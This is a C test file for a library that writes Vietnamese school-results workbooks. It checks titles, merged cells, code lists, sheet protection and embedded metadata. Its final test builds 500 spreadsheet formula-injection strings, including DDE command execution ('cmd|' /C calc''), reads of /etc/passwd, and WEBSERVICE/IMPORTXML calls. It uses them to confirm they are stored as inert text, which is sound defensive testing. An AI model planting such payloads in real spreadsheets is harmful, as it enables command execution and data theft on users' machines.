/* test_book.c - templates as workbooks: what is written is found again, whatever it looks like. */
#include <string.h>
#include <unistd.h>
#include <zip.h>

#include "base/text.h"
#include "book/book.h"
#include "sheet/template.h"
#include "sheet/value.h"
#include "test_table_tools.h"

/* ---- templates of the test ---- */

static const struct field *field(const char *type, const char *name)
{
	const struct field *f = field_find(catalog_type(test_catalog(), type), name);

	assert_non_null(f);
	return f;
}

/* Results of two subjects, three rows of titles. */
static const struct sheet_template *results(struct ctx *c)
{
	static const char *const title[][2] = {
		{ "STT" }, { "Mã lớp" }, { "Mã học sinh" }, { "Họ tên" }, { "Ngày sinh" },
		{ "Môn học và hoạt động giáo dục / Toán / Mức đạt được" }, { "Môn học và hoạt động giáo dục / Toán / Điểm KTĐK" },
		{ "Môn học và hoạt động giáo dục / Tiếng Việt / Mức đạt được" }, { "Môn học và hoạt động giáo dục / Tiếng Việt / Điểm KTĐK" },
		{ "Năng lực cốt lõi / Tự chủ và tự học" }, { "Lên lớp" },
	};
	struct sheet_record *rec = NEW_N(c->arena, struct sheet_record, 4);
	struct sheet_column *col = NEW_N(c->arena, struct sheet_column, COUNT(title));
	struct sheet_template *t = NEW(c->arena, struct sheet_template);
	const struct field **match = NEW_N(c->arena, const struct field *, 2);
	struct sheet_ask *ask = NEW(c->arena, struct sheet_ask);

	match[0] = field("learner", "full_name");
	*ask = (struct sheet_ask){ .name = "period", .field = field("result", "period") };
	rec[0] = (struct sheet_record){ .name = "learner", .type = catalog_type(test_catalog(), "learner") };
	rec[1] = (struct sheet_record){ .name = "toan", .type = catalog_type(test_catalog(), "subject_result"), .role = RECORD_MORE };
	rec[2] = (struct sheet_record){ .name = "tv", .type = rec[1].type, .role = RECORD_MORE };
	rec[3] = (struct sheet_record){ .name = "result", .type = catalog_type(test_catalog(), "result"), .role = RECORD_MORE };
	const struct sheet_column all[] = {
		{ .id = "ordinal", .use = USE_ORDINAL }, { .id = "class", .use = USE_CLASS },
		{ .id = "learner.code", .use = USE_CODE }, { .id = "learner.full_name", .field = match[0], .required = true, .identifies = true },
		{ .id = "learner.birth_date", .field = field("learner", "birth_date"), .identifies = true },
		{ .id = "toan.level", .record = 1, .field = field("subject_result", "level") },
		{ .id = "toan.score", .record = 1, .field = field("subject_result", "score") },
		{ .id = "tv.level", .record = 2, .field = field("subject_result", "level") },
		{ .id = "tv.score", .record = 2, .field = field("subject_result", "score") },
		{ .id = "result.self_study", .record = 3, .field = field("result", "self_study") },
		{ .id = "result.promoted", .record = 3, .field = field("result", "promoted") },
	};
	for (size_t i = 0; i < COUNT(all); i++) {
		col[i] = all[i];
		col[i].title = title[i];
		col[i].type = col[i].use == USE_CLASS ? catalog_type(test_catalog(), "class") : rec[col[i].record].type;
	}
	*t = (struct sheet_template){ .name = "test-results", .label = "Kết quả học tập", .record = rec, .match = match, .ask = ask, .column = col,
		                      .n_records = 4, .n_asks = 1, .n_columns = COUNT(all) };
	return t;
}

/* One column of free text. */
static const struct sheet_template *texts(struct ctx *c)
{
	struct sheet_template *t = NEW(c->arena, struct sheet_template);
	struct sheet_record *rec = NEW(c->arena, struct sheet_record);
	struct sheet_column *col = NEW_N(c->arena, struct sheet_column, 2);
	static const char *const title[][2] = { { "STT" }, { "Quê quán" } };

	rec->name = "learner";
	rec->type = catalog_type(test_catalog(), "learner");
	col[0] = (struct sheet_column){ .id = "ordinal", .use = USE_ORDINAL, .title = title[0] };
	col[1] = (struct sheet_column){ .id = "learner.home_town", .type = rec->type, .field = field("learner", "home_town"), .title = title[1] };
	*t = (struct sheet_template){ .name = "test-texts", .label = "Chữ", .record = rec, .column = col, .n_records = 1, .n_columns = 2 };
	return t;
}

static struct book_options options(const struct sheet_template *t)
{
	return (struct book_options){ .sheet = t, .unit_code = "19172401", .unit_name = "Trường Tiểu học Ba Hàng", .province = "19", .levels = "02",
		                      .school_year = 2025, .filled = true };
}

static const char *book_path;

static int write_book(struct ctx *c, const struct book_options *o, const struct val *rows, size_t n)
{
	struct book *b;

	c->catalog = test_catalog();
	book_path = arena_fmt(c->arena, "%s/book.xlsx", test_dir(c));
	OK(book_open(c, book_path, o, &b));
	for (size_t i = 0; i < n; i++)
		OK(book_row(b, &rows[i * o->sheet->n_columns]));
	OK(book_close(b));
	return sheet_open(c, book_path);
}

static const char *dump(struct ctx *c, int fd)
{
	const char **text = NEW(c->arena, const char *); /* gcc 12 takes one on the stack for what it points to */

	OK(sheet_dump(c, fd, NULL, text));
	return *text;
}

/* A part of the package as text. */
static const char *part(struct ctx *c, const char *name)
{
	zip_t *z = zip_open(book_path, ZIP_RDONLY, NULL);
	zip_stat_t st;

	assert_non_null(z);
	assert_int_equal(zip_stat(z, name, 0, &st), 0);
	char *text = arena_alloc(c->arena, st.size + 1);
	zip_file_t *f = zip_fopen(z, name, 0);
	assert_int_equal(zip_fread(f, text, st.size), st.size);
	zip_fclose(f);
	zip_close(z);
	return text;
}

static void holds(const char *text, const char *wanted)
{
	if (strstr(text, wanted) == NULL)
		fail_msg("«%s» is not in: %.3000s", wanted, text);
}

static void holds_not(const char *text, const char *unwanted)
{
	if (strstr(text, unwanted) != NULL)
		fail_msg("«%s» is in: %.3000s", unwanted, text);
}

/* ---- the tests ---- */

TEST_PURE(book_has_titles_in_three_rows_and_values_as_schools_write_them)
{
	struct book_options o = options(results(c));
	const char *const told[] = { "CN" };
	const struct val row[] = {
		val_null(), val_text("1A"), val_text("1900000011"), val_text("Nguyễn Văn An"), val_text("2018-09-05"), val_text("T"), val_int(95),
		val_text("C"), val_null(), val_text("D"), val_bool(true),
	};

	o.ask = told;
	const char *text = dump(c, write_book(c, &o, row, 1));
	holds(text, "[Dữ liệu]\n1|TSTT|TMã lớp|TMã học sinh|THọ tên|TNgày sinh|TMôn học và hoạt động giáo dục|-|-|-|TNăng lực cốt lõi|TLên lớp|\n"
	            "2|-|-|-|-|-|TToán|-|TTiếng Việt|-|TTự chủ và tự học|\n"
	            "3|-|-|-|-|-|TMức đạt được|TĐiểm KTĐK|TMức đạt được|TĐiểm KTĐK|\n"
	            "4|N1|T1A|T1900000011|TNguyễn Văn An|T05/09/2018|TT|N9.5|TC|-|TĐ|Tx|\n");
	static const char *const merged[] = { "merged A1:A3", "merged F1:I1", "merged F2:G2", "merged H2:I2", "merged J2:J3", "merged K1:K3" };
	for (size_t i = 0; i < COUNT(merged); i++)
		holds(text, merged[i]);
	holds_not(text, "merged J1"); /* one column wide */
	holds(text, "[Hướng dẫn]\n");
	holds(text, "Cuối năm học");
}

TEST_PURE(book_is_recognised_by_its_own_template)
{
	const struct sheet_template *t = results(c);
	struct book_options o = options(t);
	struct template_column col[16];
	const struct template as = { t->label, col, t->n_columns }, *const list = &as;
	struct matches m;

	for (size_t i = 0; i < t->n_columns; i++)
		col[i] = (struct template_column){ .id = t->column[i].id, .titles = t->column[i].title, .n_titles = 1, .required = t->column[i].required,
			                           .ordinal = t->column[i].use == USE_ORDINAL };
	OK(sheet_match(c, write_book(c, &o, NULL, 0), NULL, &list, 1, &m));
	assert_int_equal(m.n, 1);
	assert_string_equal(m.best->sheet_name, "Dữ liệu");
	assert_int_equal(m.best->n_known, t->n_columns);
	assert_int_equal(m.best->n_unknown, 0);
	for (size_t i = 0; i < t->n_columns; i++)
		assert_int_equal(m.best->column[i].target, i);
}

TEST_PURE(book_lists_codes_beside_the_data_as_the_ministry_does)
{
	struct book_options o = options(catalog_sheet(test_catalog(), "class-list"));
	const char *text = dump(c, write_book(c, &o, NULL, 0)), *sheet = part(c, "xl/worksheets/sheet1.xml");

	holds(text, "[GIOI_TINH]\n2|TDanh mục Giới tính|\n4|TSTT|TMã|TTên trường dữ liệu|TTên khác|\n5|N1|T01|TNam|TTrai|\n");
	holds(text, "[DAN_TOC]\n");
	holds(text, "[TRANG_THAI_HOC_SINH]\n");
	holds(sheet, "<formula1>'GIOI_TINH'!$C$5:$C$6</formula1>");
	holds(sheet, "showErrorMessage=\"1\"");
	holds(sheet, "Không có trong danh mục");
	holds(sheet, "type=\"list\"");
	holds(part(c, "xl/comments1.xml"), "Ngày/tháng/năm, ví dụ 05/09/2019.");
	holds(part(c, "xl/comments1.xml"), "12 chữ số, giữ số 0 ở đầu.");
	holds(part(c, "xl/comments1.xml"), "Bắt buộc.");
}

TEST_PURE(book_lists_the_communes_of_the_province_only)
{
	struct sheet_template *t = NEW(c->arena, struct sheet_template);
	struct sheet_column *col = NEW_N(c->arena, struct sheet_column, 2);
	static const char *const title[] = { "Xã/Phường", NULL };
	struct book_options o;

	*t = *texts(c);
	col[0] = t->column[0];
	col[1] = (struct sheet_column){ .id = "learner.residence_commune", .type = t->record->type, .field = field("learner", "residence_commune"),
		                        .title = title };
	t->column = col;
	o = options(t);
	const char *text = dump(c, write_book(c, &o, (const struct val[]){ val_null(), val_text("05500") }, 1));
	const struct list *list = catalog_list(test_catalog(), "commune");
	size_t here = 0, n = 0;
	for (size_t i = 0; i < list->n_items; i++)
		here += list->item[i].valid_to == NULL && streq(list->item[i].parent, "19");
	for (const char *p = strchr(strstr(text, "[XA_PHUONG]"), '\n') + 1; *p != '['; p = strchr(p, '\n') + 1)
		n++;
	assert_true(here > 50);
	assert_int_equal(n, here + 2); /* with title and header */
}

TEST_PURE(book_locks_what_tells_a_record_only_when_filled)
{
	struct book_options o = options(results(c));

	write_book(c, &o, NULL, 0);
	const char *sheet = part(c, "xl/worksheets/sheet1.xml");
	holds(sheet, "<sheetProtection ");
	holds(sheet, "insertRows=\"0\"");
	holds_not(sheet, "password=");
	o.filled = false;
	write_book(c, &o, NULL, 0);
	holds_not(part(c, "xl/worksheets/sheet1.xml"), "<sheetProtection ");
}

TEST_PURE(book_says_what_it_is)
{
	struct book_options o = options(results(c));
	const char *const told[] = { "CK1" };
	struct book_mark m;

	o.ask = told;
	c->now_ms = 1764547200000;
	OK(book_mark_read(c, write_book(c, &o, NULL, 0), &m));
	assert_string_equal(m.sheet, "test-results");
	assert_string_equal(m.unit, "19172401");
	assert_string_equal(m.digest, test_catalog()->digest);
	assert_string_equal(m.made_at, "2025-12-01T00:00:00.000Z");
	assert_int_equal(m.school_year, 2025);
	assert_int_equal(m.catalog_version, test_catalog()->version);
	assert_true(m.filled);
	assert_string_equal(m.ask[0], "period");
	assert_string_equal(m.ask[1], "CK1");
	assert_null(m.ask[2]);
	OK(book_mark_read(c, sheet_text_file(c, "STT;Họ tên\n1;Lê An\n"), &m));
	assert_null(m.sheet);
}

TEST_PURE(book_leaves_out_what_may_not_be_read_and_says_so)
{
	struct book_options o = options(results(c));
	bool left_out[16] = { false };

	left_out[6] = left_out[8] = true;
	o.left_out = left_out;
	const char *text = dump(c, write_book(c, &o, NULL, 0));
	holds_not(strstr(text, "[Dữ liệu]"), "|TĐiểm KTĐK|");
	holds(text, "không có quyền đọc nên tệp không có: «Môn học và hoạt động giáo dục / Toán / Điểm KTĐK», «Môn học");
}

/* ---- what a spreadsheet might take for a formula ---- */

struct heard {
	struct ctx *c;
	const char *const *want;
	size_t n, at;
};

static bool data_only(struct ctx *c, void *arg, const struct table_info *info)
{
	(void)c, (void)arg;
	return streq(info->name, "Dữ liệu");
}

static enum table_go compare(struct ctx *c, void *arg, const struct table_row *row)
{
	struct heard *h = arg;

	if (row->number == 1)
		return TABLE_MORE;
	struct value v = value_text(c->arena, &row->cell[1]);
	if (row->cell[1].kind != CELL_TEXT || v.text == NULL || !streq(v.text, h->want[h->at]))
		fail_msg("written %s, read kind %d %s", h->want[h->at], (int)row->cell[1].kind, v.text == NULL ? "nothing" : v.text);
	h->at++;
	return TABLE_MORE;
}

/* 500 of them: each way a cell can begin that some program acts upon, with each of what may follow. */
static size_t payloads(struct ctx *c, const char **ret)
{
	static const char *const begin[] = { "=", "+", "-", "@", "'=", "''=", "{=", "=-", "==", "+=", "\"=", "%=", ";=", ",=", "|=", "=+", "=@", "@=",
		                             "_x003D_", "&#61;", "</t></is><f>", "]]>=", "<f>=", "\xEF\xBC\x9D", "\xEF\xBC\x8B" };
	static const char *const rest[] = {
		"1+1", "84912345678", "cmd|' /C calc'!A0", "HYPERLINK(\"http://example.com/?\"&A1,\"bấm\")", "SUM(A1:A9)", "WEBSERVICE(\"http://example.com\")",
		"IMPORTXML(\"http://example.com\",\"//a\")", "DDE(\"soffice\";\"/etc/passwd\";\"1\")", "'file:///etc/passwd'#$A.A1", "A1", "1e5", "05/09/2019",
		"NGUYỄN VĂN AN", "0", "TRUE", "#REF!", "[1]Sheet1!A1", "MSEXCEL|'\\..\\x'!''", "x'", "1;2",
	};
	size_t n = 0;

	for (size_t i = 0; i < COUNT(begin); i++)
		for (size_t k = 0; k < COUNT(rest); k++)
			ret[n++] = arena_fmt(c->arena, "%s%s", begin[i], rest[k]);
	return n;
}

TEST_PURE(book_gives_back_500_payloads_and_has_no_formula)
{
	const struct sheet_template *t = texts(c);
	struct book_options o = options(t);
	const char *want[512];
	struct val row[1024];
	struct heard h = { c, want, payloads(c, want), 0 };
	const struct table_sink sink = { .begin = data_only, .row = compare };

	assert_int_equal(h.n, 500);
	for (size_t i = 0; i < h.n; i++) {
		assert_string_equal(text_clean(c->arena, want[i], strlen(want[i])), want[i]); /* as a record may hold it */
		row[2 * i] = val_null();
		row[2 * i + 1] = val_text(want[i]);
	}
	OK(table_read(c, write_book(c, &o, row, h.n), NULL, &sink, &h));
	assert_int_equal(h.at, h.n);
	holds_not(part(c, "xl/worksheets/sheet1.xml"), "<f>");
	holds_not(part(c, "xl/worksheets/sheet1.xml"), "<hyperlink");
	holds(part(c, "xl/styles.xml"), "formatCode=\"@\""); /* '@': opening a cell and leaving it changes nothing */
}
